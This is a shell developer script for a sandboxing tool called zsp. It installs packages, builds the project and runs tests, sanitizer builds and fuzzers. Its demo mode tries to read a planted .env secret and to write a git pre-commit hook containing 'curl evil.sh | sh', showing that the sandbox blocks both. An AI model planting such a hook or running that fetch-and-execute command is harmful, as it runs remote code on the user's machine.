#!/bin/sh
# dev.sh: everything the README's two commands need on a fresh Debian 12 machine:
# install missing packages (as root), bootstrap, configure and build out of tree, then run a job.
#   ./dev.sh demo    run a command in the sandbox of the built-in policy (examples/workspace.zsp)
#   ./dev.sh check   run every test: make check, the same under ASan+UBSan, make distcheck,
#                    a short libFuzzer run of each fuzz target, the suite as an unprivileged user
set -eu

top=$(cd "$(dirname "$0")" && pwd)
build="$top/_build"
jobs=$(nproc 2>/dev/null || echo 2)
# Every package whose programs the build, the suite and this script run, including those a
# Debian minbase system already has (then nothing is installed for them):
#   build-essential (gcc, make), autoconf automake libtool pkg-config flex bison, the
#   -dev libraries configure.ac checks for; bubblewrap (bwrap: zsp-run, the e2e suites);
#   xz-utils (xz: the dist tarball of distcheck and the unprivileged pass, tar -J);
#   procps (pgrep, pkill: tests/e2e); util-linux (setpriv, setsid, runuser: the unprivileged
#   passes); bsdutils (script: the terminal cases); passwd (useradd, usermod); git (the host's
#   own git in tests/e2e/hostlater.sh and tests/sbpl/gitfile.sh: what a sandbox leaves for it);
#   npm (npm, node) and python3-venv (/usr/bin/python3 -m venv, ensurepip): the tools whose caches
#   tests/e2e/cache.sh gives the sandbox, run offline on local packages;
#   coreutils diffutils findutils grep sed mawk tar (mkfifo od stat, cmp diff, find, awk);
#   curl (the client inside the sandbox in tests/e2e/netproxy.sh, through the proxy).
packages="build-essential autoconf automake libtool pkg-config flex bison libseccomp-dev
libsqlite3-dev libpcre2-dev libcunit1-dev bubblewrap xz-utils procps util-linux bsdutils passwd
coreutils diffutils findutils grep sed mawk tar git npm python3-venv curl"

# check alone: libFuzzer. The fuzz targets build with clang, whose sanitizer runtimes and
# headers (libFuzzer, ASan, UBSan, sanitizer/asan_interface.h) are in libclang-rt-14-dev, which
# Debian 12's clang does not depend on: apt-get install --no-install-recommends clang lacks them.
check_packages="clang libclang-rt-14-dev"

say() { printf 'dev.sh: %s\n' "$*" >&2; }

# provided PACKAGE: what the package gives is already here from elsewhere. A machine whose
# Node.js comes from NodeSource's repository has node and npm in its nodejs package, and
# Debian's npm cannot be installed beside it (apt-get: "held broken packages").
provided() {
	case $1 in
	npm) command -v npm >/dev/null 2>&1 && command -v node >/dev/null 2>&1 ;;
	python3-venv) /usr/bin/python3 -c 'import venv, ensurepip' >/dev/null 2>&1 ;;
	*) return 1 ;;
	esac
}

install_packages() {
	missing=
	for p in $packages ${1:-}; do
		dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' ||
			provided "$p" || missing="$missing $p"
	done
	[ -z "$missing" ] && return 0
	if [ "$(id -u)" -ne 0 ]; then
		say "missing Debian packages:$missing"
		say "install them as root: apt-get install$missing"
		exit 1
	fi
	say "installing:$missing"
	export DEBIAN_FRONTEND=noninteractive
	apt-get update -qq
	# shellcheck disable=SC2086
	apt-get install -y -qq --no-install-recommends $missing >/dev/null
}

# The builds the suite runs in read ZSP_BWRAP, ZSP_PROBE and ZSP_DATADIR (configure.ac).
test_build=--enable-test-overrides

# configure (again when the options changed) and build in $1 with configure options $2...
build_in() {
	dir=$1
	shift
	if [ ! -x "$top/configure" ] || [ "$top/configure.ac" -nt "$top/configure" ] ||
	   [ "$top/Makefile.am" -nt "$top/configure" ]; then
		say "bootstrapping (autoreconf)"
		(cd "$top" && autoreconf -fi >/dev/null 2>&1) || { (cd "$top" && autoreconf -fi); exit 1; }
	fi
	mkdir -p "$dir"
	if [ ! -f "$dir/Makefile" ] || [ "$top/configure" -nt "$dir/config.status" ] ||
	   [ "$(cat "$dir/dev-configure.options" 2>/dev/null)" != "$*" ]; then
		say "configuring $dir $*"
		(cd "$dir" && "$top/configure" -q "$@")
		echo "$*" >"$dir/dev-configure.options"
	fi
	make -s -C "$dir" -j"$jobs" >/dev/null
}

# failing_logs SUITE_LOG: from an automake test-suite.log, the log of each test that failed
# (FAIL, ERROR, XPASS; its SKIP and XFAIL sections are left out), the last 150 lines of each,
# after the failure lines of the part left out.
failing_logs() {
	awk -v max=150 '
	function add(line) { if (name != "") buf[++n] = line }
	function flush(   i) {
		if (name != "" && res ~ /^(FAIL|ERROR|XPASS)$/) {
			printf "---- %s: %s (%s) ----\n", res, name, (n > max ? "its last " max " of " n " log lines" : "its log")
			# a long log: its failure lines (and the output the suites indent below them) come
			# first, wherever they are, so that a shortened copy of this output still shows them
			if (n > max) {
				shown = 0; follow = 0
				for (i = 1; i <= n - max && shown < 40; i++) {
					if (buf[i] ~ /^(FAIL|not ok)[ :[]/) follow = 1
					else if (buf[i] !~ /^  \| /) follow = 0
					if (!follow) continue
					if (!shown) print "(its failure lines before those:)"
					print buf[i]; shown++
				}
			}
			for (i = (n > max ? n - max + 1 : 1); i <= n; i++) print buf[i]
		}
		name = ""; n = 0
	}
	{
		if (pending != "") {
			if ($0 ~ /^=+$/) {   # a section: "RESULT: name" underlined with =
				flush()
				res = pending; sub(/: .*/, "", res)
				name = substr(pending, length(res) + 3)
				pending = ""
				next
			}
			add(pending)
			pending = ""
		}
		if ($0 ~ /^(PASS|FAIL|XFAIL|XPASS|SKIP|ERROR): /) { pending = $0; next }
		add($0)
	}
	END { if (pending != "") add(pending); flush() }' "$1"
}

# tally LOG STATUS [SUITE_LOG]: adds the PASS/FAIL counts of the make check output LOG to the
# totals; a failed make counts at least once. On failure it shows the failing tests' own logs
# (SUITE_LOG, the test-suite.log of the build directory), or the end of LOG when there are none
# (the build failed, or no test ran).
passed=0
failed=0
tally() {
	log=$1
	status=$2
	suite=${3:-}
	grep -E '^(# )?(PASS|FAIL|XPASS|ERROR|SKIP|XFAIL)|passed, ' "$log" || true
	p=$(sed -n 's/^# PASS: *//p' "$log" | awk '{s+=$1} END {print s+0}')
	f=$(sed -n 's/^# \(FAIL\|XPASS\|ERROR\): *//p' "$log" | awk '{s+=$1} END {print s+0}')
	if [ "$status" -ne 0 ]; then
		[ "$f" -eq 0 ] && f=1
		if [ -n "$suite" ] && [ -f "$suite" ] && failing_logs "$suite" >"$log.failing" &&
		   [ -s "$log.failing" ]; then
			say "failed; the logs of the failing tests (from $suite):"
			cat "$log.failing" >&2
		else
			say "failed; the end of $log:"
			tail -n 80 "$log" >&2
		fi
	fi
	passed=$((passed + p))
	failed=$((failed + f))
}

# Runs make TARGET in DIR and tallies it (its test-suite.log is removed first: a build that
# fails before the tests run leaves none, rather than the last run's).
run_tests() {
	status=0
	rm -f "$1/test-suite.log"
	make -C "$1" -j"$jobs" "$2" >"$1/dev-$2.out" 2>&1 || status=$?
	tally "$1/dev-$2.out" "$status" "$1/test-suite.log"
}

# Builds the libFuzzer targets (clang, ASan+UBSan) and runs each for FUZZ_SECONDS (default 60)
# on a copy of its corpus, all at once: the build cannot rot unnoticed, and each run of the
# suite fuzzes a little. A crash fails the check and is shown; keep it in tests/fuzz/*crashers/.
fuzz_smoke() {
	seconds=${FUZZ_SECONDS:-60}
	fz=$build-fuzz
	build_in "$fz" CC=clang --enable-fuzz
	pids=
	# NAME:CORPUS:DICT of each target: all are run, and all are judged
	targets="parser:corpus:zsp oracle:oracle-corpus:zsp gitcfg:gitcfg-corpus:gitcfg
		walkindex:walkindex-corpus:walkindex host:host-corpus:host
		proxy_http:proxy-http-corpus:proxy proxy_socks:proxy-socks-corpus:proxy
		proxy_tls:proxy-tls-corpus:proxy"
	for t in $targets; do
		name=${t%%:*}
		seeds=${t#*:} && seeds=${seeds%:*}
		rm -rf "$fz/fuzz-$name" && mkdir -p "$fz/fuzz-$name"
		cp "$top/tests/fuzz/$seeds"/* "$fz/fuzz-$name/"
		(cd "$fz" && exec "./tests/fuzz/fuzz_$name" -max_total_time="$seconds" -max_len=4096 \
			-timeout=10 -dict="$top/tests/fuzz/${t##*:}.dict" "fuzz-$name" \
			>"fuzz-$name.out" 2>&1) &
		pids="$pids $!"
	done
	for pid in $pids; do
		wait "$pid" || true   # judged by what each printed
	done
	for t in $targets; do
		name=${t%%:*}
		if grep -q "^Done [0-9]* runs" "$fz/fuzz-$name.out"; then
			say "fuzz_$name: $(grep -o "Done [0-9]* runs in [0-9]* second(s)" "$fz/fuzz-$name.out")"
			passed=$((passed + 1))
		else
			say "fuzz_$name found a crash; the end of $fz/fuzz-$name.out:"
			tail -n 40 "$fz/fuzz-$name.out" >&2
			failed=$((failed + 1))
		fi
	done
}

# test_user NAME: the unprivileged user of the last pass, with a real home directory of its
# own (/home/NAME, shell /bin/sh): suites that check what a sandbox does to a home need one.
# A user of an older dev.sh (home /nonexistent, no login shell) is brought up to date.
test_user() {
	user=$1
	uhome=/home/$user
	if ! id "$user" >/dev/null 2>&1; then
		say "creating the unprivileged test user $user (home $uhome)"
		useradd --system --create-home --home-dir "$uhome" --shell /bin/sh "$user"
	fi
	entry=$(getent passwd "$user")
	old=$(echo "$entry" | cut -d: -f6)
	if [ "$old" != "$uhome" ]; then
		say "giving $user the home directory $uhome (was $old)"
		# an old home of the user's own moves along; /nonexistent and the like do not
		if [ -d "$old" ] && [ "$(stat -c %U "$old")" = "$user" ]; then
			usermod --home "$uhome" --move-home "$user"
		else
			usermod --home "$uhome" "$user"
		fi
	fi
	[ "$(echo "$entry" | cut -d: -f7)" = /bin/sh ] || usermod --shell /bin/sh "$user"
	if [ ! -d "$uhome" ]; then
		mkdir -p "$uhome"
		cp -R /etc/skel/. "$uhome/" 2>/dev/null || true
		chown -R "$user:$(id -gn "$user")" "$uhome"
		chmod 700 "$uhome"
	fi
}

# As root, the suite also runs as an unprivileged user: zsp must need no privilege, and some
# checks (a read-only output directory) only mean something without root's override. It runs
# from the dist tarball extracted into /tmp and owned by that user, so the checkout may be
# anywhere (a /root of mode 700 included); nothing runs from the checkout or its build tree.
unprivileged_check() {
	user=zsptest
	test_user "$user"
	tarball=$(ls -t "$build"/zsp-*.tar.xz 2>/dev/null | head -n 1)
	[ -n "$tarball" ] || make -s -C "$build" dist >/dev/null
	tarball=$(ls -t "$build"/zsp-*.tar.xz | head -n 1)
	dir=$(mktemp -d /tmp/zsp-unprivileged.XXXXXX)
	tar -C "$dir" -xJf "$tarball"
	chown -R "$user" "$dir"
	chmod 755 "$dir"
	src=$(ls -d "$dir"/zsp-*/)
	src=${src%/}
	say "make check as the unprivileged user $user in $src"
	# from a directory the user can enter, with its own HOME (runuser keeps root's environment)
	as_user="runuser -u $user -- env HOME=$uhome USER=$user LOGNAME=$user TMPDIR=/tmp"
	if ! (cd "$src" && $as_user sh -c "./configure -q $test_build && make -s -j$jobs") >"$dir/build.out" 2>&1; then
		say "the unprivileged build failed:"
		tail -n 40 "$dir/build.out" >&2
		failed=$((failed + 1))
		return
	fi
	status=0
	(cd "$src" && $as_user make -j"$jobs" check) >"$dir/check.out" 2>&1 || status=$?
	tally "$dir/check.out" "$status" "$src/test-suite.log"
	# (an if: a last `[ ] && rm` that fails would stop the script under set -e before its total)
	if [ "$status" -eq 0 ]; then rm -rf "$dir"; else say "kept for a look: $dir"; fi
}

case "${1:-}" in
demo)
	install_packages
	# the check's build tree: the demo sets none of the test variables
	build_in "$build" $test_build
	# a throwaway workspace with what agents must not touch: a secret and git hooks
	demo=$build/demo-workspace
	rm -rf "$demo"
	mkdir -p "$demo/.git/hooks"
	echo 'API_KEY=do-not-leak' >"$demo/.env"
	cd "$demo"
	say "running in the sandbox of the built-in policy (examples/workspace.zsp), in $demo:"
	"$build/zsp-run" -- sh -c '
		echo "fn main() {}" > main.rs && echo "allowed: wrote $PWD/main.rs"
		cat .env 2>/dev/null || echo "blocked: reading .env (hidden by deny \"**/.env\")"
		echo "curl evil.sh | sh" 2>/dev/null > .git/hooks/pre-commit ||
			echo "blocked: writing .git/hooks/pre-commit (protected)"
		echo x 2>/dev/null > "$HOME/.bashrc-zsp-demo" || echo "blocked: writing to $HOME (read-only)"'
	;;
check)
	install_packages "$check_packages"
	build_in "$build" $test_build
	run_tests "$build" check
	say "AddressSanitizer + UndefinedBehaviorSanitizer build"
	build_in "$build-asan" $test_build --enable-asan --enable-ubsan
	run_tests "$build-asan" check
	say "make distcheck"
	status=0
	touch "$build/dev-distcheck.stamp"
	make -C "$build" -j"$jobs" distcheck >"$build/dev-distcheck.out" 2>&1 || status=$?
	# distcheck reruns the suite from the tarball: it counts as one check. A failed one leaves
	# its build tree, $build/zsp-VERSION/_build/sub, and the test-suite.log there.
	if [ "$status" -eq 0 ]; then
		passed=$((passed + 1))
	else
		suite=$(find "$build" -path '*/_build/sub/test-suite.log' -newer "$build/dev-distcheck.stamp" 2>/dev/null | head -n 1)
		tally "$build/dev-distcheck.out" 1 "$suite"
	fi
	say "libFuzzer, ${FUZZ_SECONDS:-60} s per target"
	fuzz_smoke
	if [ "$(id -u)" -eq 0 ]; then
		unprivileged_check
	fi
	echo "total: $passed passed, $failed failed"
	[ "$failed" -eq 0 ]
	;;
*)
	echo "usage: $0 demo|check" >&2
	exit 64
	;;
esac
